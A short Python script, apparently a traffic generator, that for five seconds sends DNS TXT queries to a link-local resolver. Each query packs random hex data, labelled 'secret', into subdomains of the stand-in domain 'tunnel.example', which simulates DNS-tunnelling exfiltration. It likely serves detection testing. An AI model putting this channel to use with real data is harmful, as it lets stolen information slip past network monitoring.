# Carries what it knows out of here in questions for names, five seconds long, over one socket. Prints how many it asked.
import os, socket, time

gateway = ("169.254.0.22", 53)
asked, until = 0, time.monotonic() + 5
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setblocking(False)
while time.monotonic() < until:
    secret = os.urandom(90).hex()
    labels = [secret[at : at + 60] for at in range(0, 180, 60)] + ["tunnel", "example"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    # A question for texts, which are what carries most back.
    question = os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\x10\0\1"
    try:
        out.sendto(question, gateway)
        asked += 1
    except OSError:
        time.sleep(0.001)
print(asked)
